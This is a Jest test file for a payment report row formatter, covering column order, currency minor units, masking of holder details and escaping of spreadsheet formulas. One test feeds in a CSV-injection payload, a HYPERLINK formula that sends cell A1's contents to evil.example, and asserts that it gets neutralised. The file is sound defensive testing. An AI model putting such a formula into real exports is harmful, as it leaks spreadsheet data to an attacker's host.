import { MovementRow, REPORT_COLUMNS, reportValues } from '../../../src/reports/movement-row';
import { isFormulaCell } from '../../support/report-files';

const payment: MovementRow = {
  order_id: '1b4e28ba-2fa1-4d3b-9f6e-0c2d3e4f5a6b',
  external_reference: 'order-1',
  type: 'PAYMENT',
  status: 'COMPLETED',
  created_at: new Date('2026-11-02T14:03:11.456Z'),
  updated_at: new Date('2026-11-02T14:03:40.001Z'),
  local_amount: '100.0000',
  local_currency: 'BRL',
  user_amount: '18.6200',
  user_currency: 'USD',
  fx_rate: '0.1862000000',
  merchant_name: 'Padaria Pão',
  merchant_identification_number: '12345678000199',
  error_code: null,
  flow: 'QR',
  local_country: 'BR',
};

const valuesOf = (row: MovementRow) =>
  Object.fromEntries(REPORT_COLUMNS.map((column, i) => [column, reportValues(row)[i]]));

describe('reportValues', () => {
  it('follows the contract: these columns, in this order', () => {
    expect(REPORT_COLUMNS).toEqual([
      'order_id',
      'external_reference',
      'type',
      'status',
      'created_at',
      'updated_at',
      'local_amount',
      'local_currency',
      'user_amount',
      'user_currency',
      'fx_rate',
      'merchant_name',
      'merchant_identification_number',
      'error_code',
    ]);
    expect(reportValues(payment)).toHaveLength(REPORT_COLUMNS.length);
  });

  it('writes a payment with UTC dates to the second, amounts at the minor unit and the rate without trailing zeros', () => {
    expect(reportValues(payment)).toEqual([
      '1b4e28ba-2fa1-4d3b-9f6e-0c2d3e4f5a6b',
      'order-1',
      'PAYMENT',
      'COMPLETED',
      '2026-11-02T14:03:11Z',
      '2026-11-02T14:03:40Z',
      '100.00',
      'BRL',
      '18.62',
      'USD',
      '0.1862',
      'Padaria Pão',
      '12345678000199',
      null,
    ]);
  });

  it("uses each currency's own minor unit", () => {
    const values = valuesOf({
      ...payment,
      local_amount: '15000.0000',
      local_currency: 'CLP',
      user_amount: '16.1000',
      user_currency: 'USD',
    });
    expect(values).toMatchObject({ local_amount: '15000', user_amount: '16.10' });
  });

  it('leaves unknown amounts, rates and references empty (null)', () => {
    const refund: MovementRow = {
      ...payment,
      type: 'REFUND',
      status: 'PENDING',
      user_amount: null,
      fx_rate: null,
      external_reference: null,
      error_code: null,
    };
    expect(valuesOf(refund)).toMatchObject({
      type: 'REFUND',
      status: 'PENDING',
      user_amount: null,
      fx_rate: null,
      external_reference: null,
    });
  });

  it('keeps error codes and values as they are', () => {
    expect(
      valuesOf({ ...payment, status: 'FAILED', error_code: 'INSUFFICIENT_FUNDS', merchant_name: 'A|B, "C"\nD' }),
    ).toMatchObject({
      status: 'FAILED',
      error_code: 'INSUFFICIENT_FUNDS',
      merchant_name: 'A|B, "C"\nD',
    });
  });

  it('neutralises text that begins with a formula character, a single quote first, and leaves numbers, negative ones included, as they are', () => {
    const hostile: MovementRow = {
      ...payment,
      type: 'REFUND',
      external_reference: '=HYPERLINK("https://evil.example/?d="&A1,"invoice")',
      local_amount: '-40.0000',
      user_amount: '-7.4500',
      merchant_name: '@SUM(A1:A9)',
      merchant_identification_number: '+5511999999999',
      error_code: '-',
    };
    expect(valuesOf(hostile)).toEqual({
      order_id: payment.order_id,
      external_reference: `'=HYPERLINK("https://evil.example/?d="&A1,"invoice")`,
      type: 'REFUND',
      status: 'COMPLETED',
      created_at: '2026-11-02T14:03:11Z',
      updated_at: '2026-11-02T14:03:40Z',
      local_amount: '-40.00',
      local_currency: 'BRL',
      user_amount: '-7.45',
      user_currency: 'USD',
      fx_rate: '0.1862',
      merchant_name: "'@SUM(A1:A9)",
      merchant_identification_number: "'+5511999999999",
      error_code: "'-",
    });
  });

  it('guards the text of every column but the three numbers: ids, codes and statuses too', () => {
    const hostile = {
      ...payment,
      order_id: '=A1',
      type: '@A1',
      status: '+A1',
      local_amount: null,
      local_currency: '\t=A1',
      user_amount: null,
      user_currency: '\r=A1',
    };
    expect(
      reportValues(hostile as unknown as MovementRow).filter((value) => value !== null && isFormulaCell(value)),
    ).toEqual([]);
  });

  it('refuses an amount finer than its currency allows rather than rounding it', () => {
    expect(() => reportValues({ ...payment, local_amount: '10.0050' })).toThrow(RangeError);
  });

  it("shows a Brazilian or Colombian key's holder masked, as its look-up did, and a QR's merchant or a Peruvian holder as they are", () => {
    const brazilianHolder = {
      ...payment,
      flow: 'KEY' as const,
      merchant_name: 'Maria Aparecida Souza',
      merchant_identification_number: '52998224725',
    };
    expect(valuesOf(brazilianHolder)).toMatchObject({
      merchant_name: 'Maria A. S.',
      merchant_identification_number: '***.982.247-**',
    });
    expect(valuesOf({ ...brazilianHolder, flow: 'QR' })).toMatchObject({
      merchant_name: 'Maria Aparecida Souza',
      merchant_identification_number: '52998224725',
    });
    expect(valuesOf({ ...brazilianHolder, local_country: 'PE', local_currency: 'PEN' })).toMatchObject({
      merchant_name: 'Maria Aparecida Souza',
    });
  });
});
